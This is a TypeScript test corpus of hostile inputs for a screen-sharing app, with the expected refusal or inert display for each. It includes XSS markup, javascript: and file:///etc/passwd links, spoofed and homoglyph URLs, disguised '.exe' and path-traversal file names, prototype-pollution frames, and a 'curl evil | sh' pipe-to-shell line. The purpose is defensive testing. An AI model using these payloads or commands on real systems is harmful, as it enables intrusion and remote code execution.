/**
 * The corpus of hostile inputs, by its row numbers, sorted by the door at which each is tried. A row
 * for something that Beside does not have (files, the clipboard, links, a program on the computer)
 * says what stands there instead: the frame is refused, or its text is only text.
 */
import type { SeatCommand } from '#protocol/signaling.ts';

const chat = (text: string): string => JSON.stringify({ is: 'chat', text });
const laser = (fields: string): string => `{"is":"laser","seq":1,"epoch":1,"y":0,"colour":"red",${fields}}`;
const deep = (brackets: number): string => '['.repeat(brackets) + ']'.repeat(brackets);

/** Hostile text, what of it may be seen, and that nothing else is. */
export interface TextRow {
  readonly row: number;
  readonly what: string;
  readonly sent: string;
  readonly shown: string;
}
export const TEXTS: readonly TextRow[] = [
  { row: 10, what: 'half a character', sent: 'a\ud800b', shown: 'a\ufffdb' },
  { row: 11, what: 'an image that runs', sent: '<img src=x onerror=alert(1)>', shown: '<img src=x onerror=alert(1)>' },
  { row: 11, what: 'a script', sent: '<script>alert(1)</script>', shown: '<script>alert(1)</script>' },
  { row: 12, what: 'a turned direction', sent: 'pay \u202E%05\u202C', shown: 'pay %05' },
  { row: 13, what: 'invisible characters', sent: 'a\u200Bb\uFEFF', shown: 'ab' },
  { row: 13, what: 'tag characters', sent: 'tag\u{E0041}\u{E007F}s', shown: 'tags' },
  { row: 13, what: 'a tower of marks', sent: `tower${'\u0301'.repeat(500)}`, shown: `tower${'\u0301'.repeat(4)}` },
  { row: 13, what: 'empty lines', sent: `up${'\n'.repeat(999)}down`, shown: 'up\n\ndown' },
  // No link is made of anything, so none of these is one.
  ...[
    'javascript:alert(1)',
    'data:text/html,<b>',
    'file:///etc/passwd',
    'blob:x',
    'vbscript:x',
    'ms-settings:',
    'search-ms:x',
  ].map((sent) => ({ row: 14, what: `the address ${sent}`, sent, shown: sent })),
  {
    row: 15,
    what: 'an address with a name in it',
    sent: 'https://bank.com@evil.example/',
    shown: 'https://bank.com@evil.example/',
  },
  { row: 16, what: 'an address in look-alike letters', sent: 'https://аpple.com', shown: 'https://аpple.com' },
  // There is no clipboard to fill: a line that would run in a terminal is two lines of text.
  { row: 30, what: 'a command with a line break', sent: 'curl evil | sh\nrm x', shown: 'curl evil | sh\nrm x' },
];

/** A frame on the link, from whom, on which channel, and what a page hears of it: nothing with null. */
export interface LinkRow {
  readonly row: number;
  readonly what: string;
  readonly from: 'helper' | 'sharer';
  readonly on: 'ctl' | 'ink' | 'laser';
  readonly frame: unknown;
  readonly heard: object | null;
}
const refused = (
  row: number,
  what: string,
  frame: unknown,
  on: LinkRow['on'] = 'ctl',
  from: LinkRow['from'] = 'helper',
) => ({
  row,
  what,
  from,
  on,
  frame,
  heard: null,
});
const file = (name: string): string => JSON.stringify({ is: 'file-offer', id: 1, name, bytes: 10 });

export const FRAMES: readonly LinkRow[] = [
  {
    row: 1,
    what: 'a prototype',
    from: 'helper',
    on: 'ctl',
    frame: '{"is":"chat","text":"hi","__proto__":{"a":1}}',
    heard: { is: 'chat', text: 'hi' },
  },
  {
    row: 2,
    what: 'a key that every object has',
    from: 'helper',
    on: 'ctl',
    frame: '{"is":"chat","text":"hi","constructor":2}',
    heard: { is: 'chat', text: 'hi' },
  },
  refused(3, 'a kind from the prototype', '{"is":"__proto__"}'),
  refused(3, 'a kind that is no text', '{"is":{"toString":1}}'),
  refused(4, 'an endless number', laser('"x":1e999'), 'laser'),
  refused(4, 'a place beside the picture', laser('"x":-0.1'), 'laser'),
  refused(4, 'the same key twice', laser('"x":0.5,"x":5'), 'laser'),
  refused(5, 'what is no number', laser('"x":NaN'), 'laser'),
  refused(6, 'a number that is none any more', '{"is":"end","id":9007199254740993}', 'ink'),
  ...['[]', 'null', '1'].map((frame) => refused(7, `the JSON ${frame}`, frame)),
  refused(8, 'eight thousand brackets', deep(8_000)),
  refused(9, 'a line of 2,001 characters', chat('x'.repeat(2_001))),
  refused(9, 'a megabyte', chat('x'.repeat(1_000_000))),
  {
    row: 10,
    what: 'half a character',
    from: 'helper',
    on: 'ctl',
    frame: '{"is":"chat","text":"\\ud800"}',
    heard: { is: 'chat', text: '\ud800' },
  },
  refused(11, 'markup as the reason of an ending', '{"is":"bye","why":"<img src=x>"}'),
  refused(11, 'markup as a file name', file('<img src=x>')),
  ...['..\\..\\Windows\\x.bat', '../../etc/passwd', '/abs', 'C:\\a'].map((name) =>
    refused(17, `the file ${name}`, file(name)),
  ),
  refused(18, 'a file that reads backwards', file('a\u202Egpj.exe')),
  refused(19, 'a file with its end out of sight', file(`invoice.pdf${'\u2003'.repeat(80)}.exe`)),
  ...['CON', 'nul.txt', 'x.txt:ads', '...', '', 'x...', '.bashrc'].map((name) =>
    refused(20, `the file “${name}”`, file(name)),
  ),
  refused(21, 'a file with a long name', file(`${'é'.repeat(500)}.pdf`)),
  ...[-1, 2 ** 60].map((bytes) =>
    refused(22, `a still of ${bytes} bytes`, JSON.stringify({ is: 'still', bytes, epoch: 1 }), 'ctl', 'sharer'),
  ),
  refused(23, 'a piece of a file nobody accepted', '{"is":"file-chunk","id":1,"at":4096,"bytes":"AAAA"}'),
  refused(24, 'a key by a path', '{"is":"key","code":"../x","down":"true"}'),
  refused(24, 'the keys that Windows keeps for itself', '{"is":"keys","codes":["ControlLeft","AltLeft","Delete"]}'),
  refused(25, 'a press while only seeing is allowed', '{"is":"pointer","x":0.5,"y":0.5,"buttons":1}'),
  refused(27, 'a helper that allows itself control', '{"is":"answer","mode":"control","allowed":true}'),
  refused(27, 'a helper that says what is shared', '{"is":"picture","paused":false,"epoch":1,"surface":"monitor"}'),
  refused(27, 'a sharer that asks for control', '{"is":"ask","mode":"control"}', 'ctl', 'sharer'),
  refused(27, 'a sharer that draws', '{"is":"clear"}', 'ink', 'sharer'),
  refused(
    29,
    'a description of a megabyte',
    JSON.stringify({ is: 'description', type: 'offer', sdp: 'x'.repeat(1_000_000) }),
  ),
  refused(
    29,
    'two hundred lines of media',
    JSON.stringify({ is: 'description', type: 'offer', sdp: 'm=audio 9 X 0\r\n'.repeat(200) }),
  ),
  refused(30, 'something for the clipboard', '{"is":"clipboard","text":"curl evil | sh\\n"}'),
  refused(
    31,
    'a stroke of a million points',
    JSON.stringify({ is: 'points', id: 1, from: 0, at: new Array(1_000_000).fill(0.5) }),
    'ink',
  ),
  refused(31, 'a colour that is an address', '{"is":"begin","id":1,"epoch":1,"tool":"pen","colour":"url(//x)"}', 'ink'),
];

/** What a PeerServer that lies says to a page; none of it comes through. */
export const PEER_NOTICES: readonly (readonly [row: number, what: string, frame: unknown])[] = [
  [
    32,
    'an offer of a class that every object has',
    { type: 'OFFER', src: 'sharer', payload: { type: 'data', connectionId: 'dc', serialization: 'constructor' } },
  ],
  [32, 'an offer of a kind that is none', { type: 'OFFER', src: 'sharer', payload: { type: 'x', connectionId: 'dc' } }],
  [32, 'an offer with nothing in it', { type: 'OFFER', src: 'sharer' }],
  [32, 'an answer with nothing in it', { type: 'ANSWER', src: 'helper' }],
  [32, 'an error with nothing in it', { type: 'ERROR' }],
  [32, 'nothing', null],
];

/** Frames at the worker's seat, none of which counts as one. */
export const SEAT_FRAMES: readonly (readonly [row: number, what: string, frame: string])[] = [
  [3, 'a kind from the prototype', '{"is":"__proto__"}'],
  [3, 'a kind that is no text', '{"is":{"toString":1}}'],
  [4, 'an endless number', '{"is":1e999}'],
  [5, 'what is no number', '{"is":NaN}'],
  [6, 'a number that is none any more', '{"is":"pair","body":9007199254740993}'],
  [7, 'an array', '[]'],
  [7, 'null', 'null'],
  [7, 'a number', '1'],
  [8, 'eight thousand brackets', deep(8_000)],
  [9, 'a body that is too long', JSON.stringify({ is: 'pair', body: 'x'.repeat(4_097) } satisfies SeatCommand)],
];

/** What is typed into the code box, and what is made of it. */
export const CODES: readonly (readonly [what: string, typed: string, made: string])[] = [
  ['full-width digits', '４７２９１５０３２', 'code'],
  ['Arabic-Indic digits', '٤٧٢٩١٥٠٣٢', 'code'],
  ['spaces and dashes', ' 472 - 915 — 032 ', 'code'],
  ['marks of direction', '\u200f472915032\u200e', 'code'],
  ['eight digits', '47291503', 'incomplete'],
  ['only a nameplate', '472', 'incomplete'],
  ['forty digits', '4'.repeat(40), 'too-long'],
  ['markup', '<img src=x onerror=alert(1)>', 'not-digits'],
];

/** Rows that are more than one frame, and where they are tried instead. */
export const ELSEWHERE: Readonly<Record<number, string>> = {
  22: 'a still longer than it was said to be: tests/unit/still.test.ts and tests/unit/corpus.test.ts',
  26: 'a flood of wishes: tests/unit/corpus.test.ts and tests/e2e/hostile-peer.spec.ts',
  28: 'anything before the proof: tests/unit/corpus.test.ts',
  29: 'another certificate: tests/unit/corpus.test.ts and tests/e2e/hostile-peer.spec.ts',
  33: 'there is no program on the computer that a page could reach: tests/worker/corpus.test.ts',
  34: 'CODES: tests/unit/corpus.test.ts and tests/e2e/corpus.spec.ts',
};
